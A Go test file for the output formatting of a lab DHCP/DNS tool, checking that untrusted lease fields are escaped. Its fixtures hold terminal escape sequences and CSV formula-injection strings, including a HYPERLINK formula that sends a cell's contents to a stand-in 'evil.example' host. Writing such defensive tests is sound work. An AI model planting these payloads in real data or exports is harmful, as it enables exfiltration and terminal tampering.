package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"iter"
	"net/netip"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/spf13/cobra"
	"go.yaml.in/yaml/v3"

	"labnet/internal/control"
)

func exampleLeases() []control.Lease {
	lease := func(network, addr, mac, name, state string) control.Lease {
		return control.Lease{
			Network: network, Address: netip.MustParseAddr(addr), MAC: mac, ClientID: "01:" + mac, Name: name, State: state,
			Start: at("2030-01-02T02:00:00Z"), Expires: at("2030-01-02T14:00:00Z"), LastSeen: at("2030-01-02T03:00:00+01:00"), Hostname: name,
		}
	}
	builder := lease("lab", "10.0.0.57", "52:54:00:00:00:01", "builder", "bound")
	builder.Reserved, builder.VendorClass = true, "dhcpcd-9.4.1:Linux-6.12:x86_64"
	forever := control.Lease{
		Network: "lab", Address: netip.MustParseAddr("10.0.0.60"), MAC: "52:54:00:00:00:02", ClientID: "52:54:00:00:00:02", State: "bound",
	}
	hostile := lease("lab", "10.0.0.66", "52:54:00:ab:cd:ef", "x-31mowned", "bound")
	hostile.Hostname = "\x1b[31mowned\x07\u009b2J\r\nbound\u202e\ufffd\x00\x7f\U000e0001"
	hostile.VendorClass = `=HYPERLINK("http://evil.example/?"&A1;"x")`
	semicolon := lease("lab", "10.0.0.67", "52:54:00:ab:cd:f0", "", "bound")
	semicolon.Hostname, semicolon.VendorClass = "a;=1+1", " @SUM(A1)"
	return []control.Lease{
		builder, forever, hostile, semicolon,
		lease("lab", "10.0.0.70", "52:54:00:00:00:10", "twin", "bound"),
		lease("lab", "10.0.0.80", "52:54:00:00:00:20", "phoenix", "released"),
		lease("lab", "10.0.0.81", "52:54:00:00:00:21", "phoenix", "bound"),
		lease("lab", "10.0.0.90", "52:54:00:00:00:30", "gone", "expired"),
		lease("dmz", "10.1.0.70", "52:54:00:00:00:11", "twin", "bound"),
	}
}

func exampleStatus() control.Status {
	return control.Status{
		State: control.Degraded, PID: 1 << 30, Version: "1.2.3", Started: at("2030-01-02T02:00:00Z"), Config: "/etc/labnet/labnet.hcl",
		Networks: []control.Network{
			{
				Name: "lab", Mode: "routed", Bridge: "br0", Address: netip.MustParsePrefix("10.0.0.1/24"), Uplink: "auto", Masquerade: true,
				Domain: "lab.internal", Bound: 6, Addresses: 253, Leased: 5, DHCP: control.Counters{"ack": 7, "nak": 1},
				OtherServers: []control.OtherServer{
					{
						Server: netip.MustParseAddr("10.0.0.66"), MAC: "52:54:00:00:66:66", Offered: netip.MustParseAddr("10.0.0.201"),
						Guest: "52:54:00:00:00:30", Heard: at("2030-01-02T11:59:57Z"), Times: 3,
					},
					{Server: netip.MustParseAddr("10.0.0.67"), Heard: at("2030-01-02T11:40:00Z"), Times: 1},
				},
			},
			{Name: "dmz", Mode: "routed", Bridge: "br1", Address: netip.MustParsePrefix("10.1.0.1/24"), Uplink: "eth1", Domain: "dmz.internal"},
		},
		Upstreams: []control.Upstream{
			{Group: "lan", Server: "udp://192.0.2.1:53", Healthy: true, RTT: "1.5ms"},
			{Group: "far", Server: "tls://192.0.2.9:853"},
		},
		DNS: control.Counters{"forwarded": 3}, Cache: control.CacheUse{Entries: 1, Bytes: 345, Limit: 16 << 20},
		Block: []control.BlockList{
			{File: "/etc/labnet/ads.hosts", Names: 131072, Bad: 3},
			{File: "/etc/labnet/\x1b[31mmore", Error: "open /etc/labnet/\x1b[31mmore: no such file or directory"},
		},
		HostsFiles: []control.HostsFile{{File: "/etc/labnet/printers.hosts", Names: 12, Bad: 1, Error: "is a directory"}},
		Hooks: []control.Hook{
			{Name: "inventory", Target: "/usr/local/bin/on-lease", Delivered: 41, Waiting: 2},
			{
				Name: "chat", Target: "https://chat.example.org", Delivered: 3, Failed: 2, Dropped: 1, LastError: "exit status 1: \x1b[31mno\u009b room",
				LastErrorAt: at("2030-01-02T11:59:00Z"),
			},
		},
		Problems: exampleProblems(),
	}
}

func exampleProblems() []control.Problem {
	return []control.Problem{
		{Network: "dmz", Summary: "the uplink eth1 is missing", Remedy: "name another one, or plug it in"},
		{Fatal: true, Summary: "port 53 is taken"},
	}
}

func exampleChanges() []control.Change {
	return []control.Change{{Group: "links", Text: "- link br0"}, {Group: "links", Text: "- link br1"}, {Group: "sysctls", Text: "~ net.ipv4.ip_forward: 1 → 0"}}
}

// harmless tells whether text does nothing to a terminal but print.
func harmless(t *testing.T, text string) {
	t.Helper()
	for i, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("%U at %d in:\n%q", r, i, text)
		}
	}
}

func TestOutput(t *testing.T) {
	now := at("2030-01-02T12:00:00Z")
	for _, test := range []struct {
		name  string
		write func(*bytes.Buffer) error
	}{
		{"leases-table", listed("table", exampleLeases(), now)},
		{"leases-wide", listed("wide", exampleLeases(), now)},
		{"leases-table-empty", listed("table", nil, now)},
		{"leases-csv", listed("csv", exampleLeases(), now)},
		{"leases-json", listed("json", exampleLeases(), now)},
		{"leases-ndjson", listed("ndjson", exampleLeases(), now)},
		{"leases-yaml", listed("yaml", exampleLeases(), now)},
		{"leases-yaml-empty", listed("yaml", nil, now)},
		{"lease", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[0], now) }},
		{"lease-forever", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[1], now) }},
		{"lease-hostile", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[2], now) }},
		{"lease-ended", func(w *bytes.Buffer) error { return writeLease(w, exampleLeases()[7], at("2030-01-03T00:00:00Z")) }},
		{"status", func(w *bytes.Buffer) error { return writeStatus(w, exampleStatus(), now) }},
		{"status-json", func(w *bytes.Buffer) error { return writeJSON(w, exampleStatus()) }},
		{"changes", func(w *bytes.Buffer) error { return writeChanges(w, exampleChanges()) }},
	} {
		t.Run(test.name, func(t *testing.T) {
			var out bytes.Buffer
			if err := test.write(&out); err != nil {
				t.Fatal(err)
			}
			harmless(t, out.String())
			golden(t, test.name, out.String())
		})
	}
}

// listed writes leases in a format.
func listed(out format, leases []control.Lease, now time.Time) func(*bytes.Buffer) error {
	return func(w *bytes.Buffer) error { return writeList(w, out, asRead(leases, nil), leaseView(now)) }
}

// asRead gives what a client gives: entries, and at last an error if there is one.
func asRead[T any](entries []T, err error) iter.Seq2[T, error] {
	return func(yield func(T, error) bool) {
		for _, e := range entries {
			if !yield(e, nil) {
				return
			}
		}
		if err != nil {
			var none T
			yield(none, err)
		}
	}
}

// TestAnEndedListIsNoList: what was cut off must not look whole to who reads it.
func TestACutListIsNoList(t *testing.T) {
	var out bytes.Buffer
	lost := errors.New("lost")
	if err := writeList(&out, "json", asRead(exampleLeases(), lost), leaseView(time.Now())); !errors.Is(err, lost) {
		t.Errorf("the error is %v", err)
	}
	if json.Valid(out.Bytes()) {
		t.Errorf("half a list looks whole:\n%s", out.String())
	}
}

// TestYAMLKeepsItsMeaning: YAML reads as what the JSON says.
func TestYAMLKeepsItsMeaning(t *testing.T) {
	for _, in := range []string{"\x1b[31m\u009b\u202e\x7f\U000e0001<é世&\n\"\\", "true", "0x1f", "12:30:45", "null", "~", " a", "a: b", "- a", "#a", "", "52:54:00:12:34:56", "1e3", "\u2028"} {
		var text bytes.Buffer
		if err := writeYAML(&text, map[string]string{"text": in}); err != nil {
			t.Fatal(err)
		}
		harmless(t, text.String())
		var back map[string]any
		if strings.Trim(in, "0123456789:") == "" && !strings.Contains(text.String(), `"`) {
			t.Errorf("for YAML 1.1 it is a number: %s", text.String())
		}
		if err := yaml.Unmarshal(text.Bytes(), &back); err != nil || back["text"] != in {
			t.Errorf("%q is written as %q and read as %q, %v", in, text.String(), back, err)
		}
	}
}

func TestNoChangesPrintNothing(t *testing.T) {
	var out bytes.Buffer
	if err := writeChanges(&out, nil); err != nil || out.Len() > 0 {
		t.Errorf("%q, %v", out.String(), err)
	}
}

func TestProblemsAreNotOutput(t *testing.T) {
	var out, errOut bytes.Buffer
	cmd := new(cobra.Command)
	cmd.SetOut(&out)
	cmd.SetErr(&errOut)
	writeProblems(cmd, exampleProblems())
	if out.Len() > 0 {
		t.Errorf("on standard output: %q", out.String())
	}
	golden(t, "problems", errOut.String())
}

func TestPrintable(t *testing.T) {
	for _, test := range []struct{ name, in, want string }{
		{"empty", "", ""},
		{"plain", "MSFT 5.0", "MSFT 5.0"},
		{"hyphen within", "vm-1", "vm-1"},
		{"equals", "=1+1", `"=1+1"`},
		{"plus", "+1", `"+1"`},
		{"minus", "-1", `"-1"`},
		{"at", "@SUM(A1)", `"@SUM(A1)"`},
		{"formula behind blanks", "  =1", `"  =1"`},
		{"formula behind a tab", "\t=1", `"\t=1"`},
		{"semicolon", "a;=1", `"a\x3b=1"`},
		{"quote", `a"b`, `"a\"b"`},
		{"escape", "\x1b[2J", `"\x1b[2J"`},
		{"C1", "\u009b2J", `"\u009b2J"`},
		{"byte that isn't UTF-8", "\x9b2J", `"\x9b2J"`},
		{"line", "a\nb", `"a\nb"`},
		{"from right to left", "a\u202eb", `"a\u202eb"`},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := printable(test.in); got != test.want {
				t.Errorf("%s, want %s", got, test.want)
			}
		})
	}
}

// Names of links and processes are foreign too.
func TestForeignNamesAreVisible(t *testing.T) {
	const name = "\x1b[2J\t\u009b\u202e é → 世"
	const want = `\x1b[2J\t\u009b\u202e é → 世`
	var out bytes.Buffer
	if err := writeChanges(&out, []control.Change{{Group: "links", Text: "- link " + name}}); err != nil || out.String() != "links\n  - link "+want+"\n" {
		t.Errorf("a change: %q, %v", out.String(), err)
	}
	if got := problemLine(control.Problem{Summary: name + " is in the way"}); got != "warning: "+want+" is in the way" {
		t.Errorf("a problem: %q", got)
	}
	if got := labnet(t, nil, "fmt", name); got.ErrOut != "labnet: open "+want+": no such file or directory\n" {
		t.Errorf("an error: %q", got.ErrOut)
	}
}

// What is escaped for the terminal is still the same JSON.
func TestJSONKeepsItsMeaning(t *testing.T) {
	const in = "\x1b[31m\u009b\u202e\x7f\U000e0001<é世&\n\"\\"
	var out bytes.Buffer
	if err := writeJSON(&out, in); err != nil {
		t.Fatal(err)
	}
	harmless(t, out.String())
	var back string
	if err := json.Unmarshal(out.Bytes(), &back); err != nil || back != in {
		t.Errorf("%s: %q, %v", out.String(), back, err)
	}
}

// TestStatusAlignsUpstreams has a group with a longer name than the column is wide.
func TestStatusAlignsUpstreams(t *testing.T) {
	var out strings.Builder
	s := control.Status{Upstreams: []control.Upstream{{Group: "corp-example-com", Server: "192.0.2.1:53"}, {Group: "default", Server: "192.0.2.2:53"}}}
	if err := writeStatus(&out, s, time.Now()); err != nil {
		t.Fatal(err)
	}
	const want = "  corp-example-com 192.0.2.1:53, not answering\n  default          192.0.2.2:53, not answering\n  cache            0 answers"
	if !strings.Contains(out.String(), want) {
		t.Errorf("without\n%s\nit says\n%s", want, out.String())
	}
}

func TestExpiryNeverShowsMoreThanWasLeased(t *testing.T) {
	now := time.Date(2026, 3, 1, 12, 0, 0, 100_000_000, time.UTC)
	if got := expiry(control.Lease{State: "bound", Expires: time.Date(2026, 3, 2, 0, 0, 1, 0, time.UTC)}, now); got != "in 12h0m0s" {
		t.Errorf("a lease of 12 hours, granted just now, expires %s", got)
	}
}
